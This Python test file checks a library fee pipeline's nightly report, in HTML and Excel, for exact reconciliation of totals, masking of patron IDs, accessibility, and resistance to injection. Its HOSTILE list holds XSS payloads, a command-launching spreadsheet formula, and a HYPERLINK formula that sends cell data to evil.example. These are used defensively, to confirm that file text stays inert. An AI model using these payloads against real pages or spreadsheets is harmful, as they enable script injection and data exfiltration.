"""The morning report says what the night says, to the cent, and nothing out of a file can act in it."""

from __future__ import annotations

import dataclasses
import io
import itertools
import re
import zipfile
from datetime import date
from decimal import Decimal
from html.parser import HTMLParser
from typing import TYPE_CHECKING, Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pipeline import money
from pipeline.findings import Finding
from pipeline.flow.books import Line
from pipeline.money import Tally
from pipeline.stages import printable, report, workbook
from pipeline.stages.morning import HeldGroup, HeldRow, Morning, Totals, masked, named
from tests.golden.report import sample

if TYPE_CHECKING:
    from collections.abc import Sequence

    from openpyxl import Workbook

HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "</style></td></table><h1>BALANCED</h1>",
    "{{ morning.campus }}{% raw %}",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "https://evil.example/x",
    "HTTP://EVIL.EXAMPLE",
    "#N/A",
    "\u202eEVITISOP\u202c 00.001",
    "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
    "tab\tline\nfeed\r\x00\x1b[31m",
    "\udce9 broken file name",
)


class Page(HTMLParser):
    """Reads a page back: its elements with their attributes, and its tables as rows of text by caption."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.tables: dict[str, list[list[str]]] = {}
        self.texts: dict[str, str] = {}
        self._open: list[str] = []
        self._rows: list[list[str]] = []
        self._caption = ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        if tag != "meta":
            self._open.append(tag)
        if tag == "table":
            self._rows, self._caption = [], ""
        elif tag == "tr":
            self._rows.append([])
        elif tag in ("td", "th"):
            self._rows[-1].append("")

    def handle_endtag(self, tag: str) -> None:
        assert self._open.pop() == tag, f"</{tag}> closes something else"
        if tag == "table":
            self.tables[self._caption] = self._rows

    def handle_data(self, data: str) -> None:
        if not self._open:
            return
        self.texts[self._open[-1]] = self.texts.get(self._open[-1], "") + data
        if "caption" in self._open:
            self._caption += data
        elif "tr" in self._open and self._rows[-1]:
            self._rows[-1][-1] += data


def hostile(value: Any, text: str) -> Any:
    """Put ``text`` into every piece of text of a record, however deep."""
    if isinstance(value, str):
        return text
    if isinstance(value, tuple):
        return tuple(hostile(one, text) for one in value)
    if dataclasses.is_dataclass(value) and not isinstance(value, type):
        fields = [one.name for one in dataclasses.fields(value)]
        return dataclasses.replace(value, **{name: hostile(getattr(value, name), text) for name in fields})
    return value


def read_back(packed: bytes) -> Workbook:
    from openpyxl import load_workbook

    return load_workbook(io.BytesIO(packed))


def tally_of(cells: Sequence[str]) -> Tally:
    count, amount = cells
    return Tally(int(count.replace(",", "")), money.cents(amount.replace(",", "")))


# ---- what it says


@pytest.mark.parametrize("name", sorted(sample.golden()))
def test_the_made_up_night_reads_as_it_did(name: str) -> None:
    """If you meant to change it: ``make golden``, and read the difference."""
    assert sample.golden()[name] == (sample.HERE / name).read_text(encoding="utf-8")


def test_every_total_on_the_page_read_back_is_that_of_the_night() -> None:
    night = sample.night()
    off = Line("split", "cashnet", Tally(10, 500), Tally(9, 400))
    night = dataclasses.replace(night, equations=(*night.equations, off))
    page = Page(report.html(night))
    for caption, totals in (
        ("Fees of the night, by where they ended", named(night.totals)),
        ("Money that came in up to now, by where it stands", named(night.payments)),
    ):
        _, *rows = page.tables[caption]
        assert [tally_of(row[1:]) for row in rows] == [tally for _, tally in totals]
    _, *files = page.tables["Files for the bursar"]
    assert [(row[0], tally_of(row[1:3]), row[3], row[4]) for row in files] == [
        (f"{one.system}/{one.kind}", one.total, one.state, one.name) for one in night.outputs
    ]
    _, *lines = page.tables["Both sides of every equation must be the same, to the cent"]
    assert [(row[0], row[1], tally_of(row[2:4]), tally_of(row[4:6])) for row in lines] == [
        (line.stage, line.what, line.left, line.right) for line in night.equations
    ]
    assert [row[6] for row in lines] == ["0 / 0.00"] * 4 + ["1 / 1.00"]


def test_every_held_fee_on_the_page_read_back_is_that_of_the_night_and_adds_up_to_its_group() -> None:
    night = sample.night()
    text = report.html(night)
    page = Page(text)
    for group in night.held:
        _, *rows = page.tables[f"Fees with {group.code}"]
        assert [(row[0], money.cents(row[2]), row[3], int(row[4]), row[5], int(row[6])) for row in rows] == [
            (row.fee_id, row.cents, row.why, row.days, row.file, row.line) for row in group.rows
        ]
        word = "fee" if len(group.rows) == 1 else "fees"
        assert f"{len(group.rows)} {word}, {printable.amount(sum(row.cents for row in group.rows))} USD" in text
        assert any(group.entry.do in said for said in page.texts.values())


def test_what_waits_stands_there_with_its_age_and_what_it_may_be_for() -> None:
    night = sample.night()
    page, book = Page(report.html(night)), read_back(report.xlsx(night))
    _, *rows = page.tables["Money that is not in Alma"]
    assert [(row[0], row[4]) for row in rows] == [(one.key, str(one.days)) for one in night.unposted]
    assert "it may be for 4410098" in rows[2][3]
    _, *tasks = page.tables["What only staff can do"]
    assert [(row[0], row[2], int(row[4])) for row in tasks] == [
        (one.task_id, masked(one.patron_id), one.days) for one in night.tasks
    ]
    assert "1 for 0 to 1 day" in report.html(night)
    assert "1 for over 30 days" in report.html(night)
    _, *told = book["Tasks"].iter_rows(values_only=True)
    assert [(row[0], row[4], row[6]) for row in told] == [
        (one.task_id, masked(one.patron_id), one.days) for one in night.tasks
    ]


def test_the_runs_of_the_day_stand_there_with_what_each_did() -> None:
    night = sample.night()
    _, *rows = Page(report.html(night)).tables["What each run of this business date did"]
    assert [(row[0], row[1], row[3]) for row in rows] == [(one.run, one.command, one.says) for one in night.runs]
    assert [row[2] for row in rows] == ["0", "this one"]


def test_the_made_up_night_adds_up_as_a_real_one_must() -> None:
    night = sample.night()
    for totals in (night.totals, night.payments):
        (_, whole), *parts = named(totals)
        assert whole == money.total(tally for _, tally in parts)
    held = [group for group in night.held if group.box == "held"]
    assert night.totals.held == money.total(group.total for group in held)
    assert night.totals.sent == money.total(one.total for one in night.outputs)


def test_the_page_answers_in_one_word() -> None:
    night = sample.night()
    off = Line("split", "cashnet", Tally(10, 500), Tally(10, 499))
    wrong = dataclasses.replace(night, equations=(*night.equations, off))
    unclosed = dataclasses.replace(night, balanced=False)
    words = [Page(report.html(one)).texts["strong"] for one in (night, wrong, unclosed)]
    assert words == ["BALANCED", "NOT BALANCED", "NOT BALANCED"]
    assert "split: cashnet: off by 0 row(s) and 0.01 USD" in report.html(wrong)
    assert "books could not" not in report.html(night)
    assert [report.summary_text(one).split("\n")[0].rpartition(": ")[2] for one in (night, wrong)] == words[:2]


def test_a_campus_in_shadow_is_told_that_nothing_was_let_out() -> None:
    shadow = dataclasses.replace(sample.night(), kept_in="state/shadow/SYSTEM")
    said = "nothing was let out; files lie in state/shadow/SYSTEM"
    assert f"Shadow: {said}." in report.html(shadow)
    assert f"  shadow    {said}\n" in report.summary_text(shadow)
    assert ("Shadow", None, None, said) in next(iter(workbook.sheets(shadow))).rows
    assert "hadow" not in report.html(sample.night()) + report.summary_text(sample.night())


def test_a_night_in_which_nothing_happened_says_so_in_every_place() -> None:
    quiet = Morning("A library", "train", "USD", date(2026, 11, 24), "2026-11-24-1", balanced=True)
    text = report.html(quiet)
    for said in (
        "There was nothing to balance.",
        "Nothing waits for anybody.",
        "No file was made.",
        "No file is expected by a set time, so none is missed.",
        "No file was refused.",
        "No fee is held and none waits.",
        "No payment is in doubt.",
        "Every payment received is in Alma.",
        "Nothing is left for staff to do.",
        "No run is known.",
        "There is nothing else to tell.",
        "The checks of whole tables found nothing.",
        "No equation was checked.",
        "Not production: nothing on this page is real money.",
    ):
        assert said in text
    assert [len(list(sheet.rows)) for sheet in workbook.sheets(quiet)] == [5 + 11 + 15, 0, 0, 0, 0, 0, 0, 0]


def test_what_somebody_must_look_at_is_counted_on_the_first_screen_with_a_way_to_it() -> None:
    text = report.html(sample.night())
    page = Page(text)
    ways = [attributes["href"] for tag, attributes in page.elements if tag == "a"]
    ids = {attributes["id"] for _, attributes in page.elements if attributes.get("id")}
    assert ways == ["#findings", "#doubts", "#tasks", "#payments", "#held", "#refused", "#missing"]
    assert {str(way)[1:] for way in ways} <= ids
    assert re.findall(r"<b>(\d+)</b> ([a-z ]+)</a>", text) == [
        ("1", "stop"),
        ("2", "payments in doubt"),
        ("2", "tasks for staff"),
        ("3", "payments not posted"),
        ("8", "fees held"),
        ("1", "file refused"),
        ("1", "thing that did not arrive"),
    ]


def test_a_code_that_an_older_version_left_behind_is_shown_with_its_rows() -> None:
    old = HeldGroup("held", "NO-LONGER-A-CODE", (HeldRow("1", "000112233", "f.xml", 2, 500, "it was so"),))
    night = dataclasses.replace(sample.night(), held=(old,))
    assert "a code that this version no longer has" in report.html(night)
    assert "NO-LONGER-A-CODE" in report.summary_text(night)


# ---- what it never does


@pytest.mark.parametrize("text", HOSTILE)
def test_text_out_of_a_file_never_becomes_part_of_the_page(text: str) -> None:
    tame, wild = Page(report.html(hostile(sample.night(), "tame"))), Page(report.html(hostile(sample.night(), text)))
    assert [tag for tag, _ in wild.elements] == [tag for tag, _ in tame.elements]
    assert [sorted(attributes) for _, attributes in wild.elements] == [sorted(one) for _, one in tame.elements]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_out_of_a_file_stays_text_in_every_cell_of_the_workbook(text: str) -> None:
    packed = report.xlsx(hostile(sample.night(), text))
    cells = [cell for sheet in read_back(packed) for row in sheet.iter_rows() for cell in row]
    assert {type(cell.value) for cell in cells if cell.data_type == "s"} <= {str}
    assert {cell.data_type for cell in cells} == {"s", "n"}
    assert all(cell.value is None or isinstance(cell.value, int | float) for cell in cells if cell.data_type == "n")
    assert sum(cell.value == printable.text(text) for cell in cells) > 50
    with zipfile.ZipFile(io.BytesIO(packed)) as parts:
        pages = [parts.read(name).decode() for name in parts.namelist() if name.startswith("xl/worksheets/sheet")]
    assert len(pages) == 8
    assert not any(
        "<f>" in page or "<f " in page or "hyperlink" in page.lower() for page in pages if "HYPER" not in text
    )


@pytest.fixture(scope="module")
def tame() -> list[str]:
    """The elements of the page of a night whose texts are harmless."""
    return [tag for tag, _ in Page(report.html(hostile(sample.night(), "tame"))).elements]


@settings(max_examples=12)
@given(text=st.text(st.characters(exclude_categories=()), max_size=60))
def test_any_text_at_all_is_shown_and_stays_text(tame: list[str], text: str) -> None:
    night = hostile(sample.night(), text)
    assert [tag for tag, _ in Page(report.html(night)).elements] == tame
    report.html(night).encode("utf-8")
    report.summary_text(night).encode("utf-8")
    cells = [cell for sheet in read_back(report.xlsx(night)) for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "n"}


@pytest.mark.parametrize("night", [sample.night(), *(hostile(sample.night(), text) for text in HOSTILE)])
def test_the_page_knows_no_address_outside_itself_and_no_script(night: Morning) -> None:
    text = report.html(night)
    assert re.search(r"https?://", text, re.IGNORECASE) is None
    assert "url(" not in text
    page = Page(text)
    assert not {"script", "link", "img", "iframe", "object", "form", "base"} & {tag for tag, _ in page.elements}
    for tag, attributes in page.elements:
        assert not {"src", "style", "action"} & set(attributes)
        assert not any(name.startswith("on") for name in attributes)
        assert tag == "a" or "href" not in attributes
    policy = [one for tag, one in page.elements if tag == "meta" and one.get("http-equiv")]
    assert [one["content"] for one in policy] == ["default-src 'none'; style-src 'unsafe-inline'"]


def test_no_patron_is_told_by_more_than_the_last_characters_of_the_id() -> None:
    night = sample.night()
    patrons = {row.patron_id for group in night.held for row in group.rows if len(row.patron_id) > 4}
    with zipfile.ZipFile(io.BytesIO(report.xlsx(night))) as parts:
        everything = "".join(parts.read(name).decode() for name in parts.namelist())
    everything += report.html(night) + report.summary_text(night)
    assert patrons
    assert not any(patron in everything for patron in patrons)
    assert "…2233" in everything


@given(st.text(min_size=1))
def test_a_masked_id_shows_its_end_and_at_most_half_of_it(patron_id: str) -> None:
    shown = masked(patron_id).removeprefix("…")
    assert patron_id.endswith(shown)
    assert len(shown) <= min(4, len(patron_id) / 2)


def test_the_few_lines_for_the_terminal_cannot_write_lines_of_their_own() -> None:
    tame = report.summary_text(hostile(sample.night(), "tame"))
    for text in HOSTILE:
        said = report.summary_text(hostile(sample.night(), text))
        assert said.count("\n") == tame.count("\n")
        assert not set(said) & set("\x00\x1b\r\u202e")


# ---- how it is read


def test_the_page_can_be_read_by_everybody() -> None:
    page = Page(report.html(sample.night()))
    assert ("html", {"lang": "en"}) in page.elements
    tags = [tag for tag, _ in page.elements]
    assert tags.count("h1") == tags.count("main") == 1
    assert tags.count("caption") == tags.count("table") == len(page.tables)
    assert all(one.get("scope") in ("col", "row") for tag, one in page.elements if tag == "th")
    headings = [int(tag[1]) for tag in tags if re.fullmatch("h[1-6]", tag)]
    assert all(after <= before + 1 for before, after in itertools.pairwise(headings))
    wide = [one for _, one in page.elements if one.get("class") == "scroll"]
    assert wide
    assert all(one["role"] == "region" and one["tabindex"] == "0" and one["aria-label"] for one in wide)


def test_a_page_too_long_is_cut_and_says_so_and_the_workbook_has_every_row() -> None:
    def rows(most: int) -> tuple[HeldRow, ...]:
        return tuple(HeldRow(f"{number:07d}", "000112233", "f.xml", number, 100, "so") for number in range(most))

    groups = (
        HeldGroup("held", "NORMALISE-UNMAPPED-TYPE", rows(400)),
        HeldGroup("held", "CREDIT-UNRESOLVED", rows(1234)),
        HeldGroup("held", "NORMALISE-DATE", rows(3)),
    )
    many = tuple(Finding("SAME-AGAIN", str(number), "again") for number in range(501))
    night = dataclasses.replace(sample.night(), held=groups, findings=many)
    text = report.html(night)
    page = Page(text)
    held = [len(page.tables.get(f"Fees with {group.code}", [0])) - 1 for group in groups]
    assert held == [400, report.MOST_ROWS - 400, 0]
    assert "The first 100 of 1,234 rows stand here. The workbook beside this page has them all." in text
    assert "None of the 3 rows stand here. The workbook beside this page has them all." in text
    assert "1,234 fees, 1,234.00 USD" in text
    assert len(page.tables["What the night came upon"]) == 501
    assert "The first 500 of 501 rows stand here." in text
    book = read_back(report.xlsx(night))
    assert book["Held"].max_row == 1 + 400 + 1234 + 3
    assert book["Findings"].max_row == 1 + 1 + 501 + 1


# ---- the workbook


def test_the_workbook_holds_the_night_with_ids_as_text_and_amounts_as_numbers() -> None:
    night = sample.night()
    book = read_back(report.xlsx(night))
    assert book.sheetnames == ["Summary", "Outputs", "Held", "Payments", "Tasks", "Runs", "Findings", "Equations"]
    head, *rows = book["Held"].iter_rows()
    assert [cell.value for cell in head][4:9] == ["Fee", "Patron", "File", "Line", "Amount USD"]
    told = [(row[4].value, row[8].value, row[8].number_format) for row in rows]
    assert [(fee, Decimal(str(amount))) for fee, amount, _ in told] == [
        (row.fee_id, Decimal(row.cents) / 100) for group in night.held for row in group.rows
    ]
    assert {shape for _, _, shape in told} == {"#,##0.00"}
    says = {row[0].value: (row[1].value, row[2].value, row[3].value) for row in book["Summary"].iter_rows()}
    assert says["Verdict"] == (None, None, "BALANCED")
    assert says["Fees sent"] == (1190, 23183, None)
    assert says["Payments doubt"] == (2, 20, None)
    assert says["Did not arrive"][2] == night.missing[0]


def test_every_sheet_has_a_bold_head_that_stays_in_sight_and_can_be_filtered() -> None:
    for sheet in read_back(report.xlsx(sample.night())):
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref == sheet.dimensions
        assert all(cell.font.bold for cell in sheet[1])
        assert not any(cell.font.bold for row in sheet.iter_rows(min_row=2) for cell in row)


@given(st.integers(-(10**13) + 1, 10**13 - 1))
@settings(max_examples=15)
def test_an_amount_comes_back_out_of_the_workbook_to_the_cent(cents: int) -> None:
    night = dataclasses.replace(sample.night(), totals=Totals(read=Tally(1, cents)))
    rows = {row[0]: row[2] for row in read_back(report.xlsx(night))["Summary"].iter_rows(values_only=True)}
    assert Decimal(str(rows["Fees read"])).scaleb(2) == cents


def test_the_same_night_gives_the_same_bytes_with_no_clock_in_them() -> None:
    first, second = report.xlsx(sample.night()), report.xlsx(sample.night())
    assert first == second
    with zipfile.ZipFile(io.BytesIO(first)) as parts:
        assert {info.date_time for info in parts.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        core = parts.read("docProps/core.xml").decode()
    assert set(re.findall(r"\d{4}-\d\d-\d\dT[\d:]+Z", core)) == {"2026-11-23T00:00:00Z"}
    assert report.html(sample.night()) == report.html(sample.night())


def test_rows_beyond_what_a_sheet_holds_go_to_a_sheet_of_their_own(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(workbook, "MOST_ROWS", 4)
    book = read_back(report.xlsx(dataclasses.replace(sample.night(), missing=())))
    assert [name for name in book.sheetnames if name.startswith("Held")] == ["Held", "Held 2", "Held 3"]
    fees = [row[4].value for name in ("Held", "Held 2", "Held 3") for row in book[name].iter_rows(min_row=2)]
    assert fees == [row.fee_id for group in sample.night().held for row in group.rows]


def test_a_text_too_long_for_a_cell_says_where_it_was_cut() -> None:
    night = dataclasses.replace(sample.night(), missing=("x" * 40_000,))
    last = list(read_back(report.xlsx(night))["Summary"].iter_rows(values_only=True))[-1]
    assert last[3] == "x" * 32_000 + " ... (cut here; 40000 characters)"


# ---- the words themselves


@given(st.integers(-(10**14), 10**14))
def test_an_amount_for_people_reads_back_as_the_same_cents(cents: int) -> None:
    shown = printable.amount(cents)
    assert re.fullmatch(r"-?\d{1,3}(,\d{3})*\.\d\d", shown)
    assert money.cents(shown.replace(",", ""), re.compile(r"-?\d+\.\d\d")) == cents


@given(st.text(st.characters(exclude_categories=())))
def test_shown_text_has_nothing_that_acts_and_plain_text_is_left_alone(text: str) -> None:
    shown = printable.text(text)
    assert len(shown) == len(text)
    assert shown.encode("utf-8").decode("utf-8") == shown
    assert printable.text(shown) == shown
    assert printable.text("Łódź, 3 * 2,50 - שלום\n\t") == "Łódź, 3 * 2,50 - שלום\n\t"
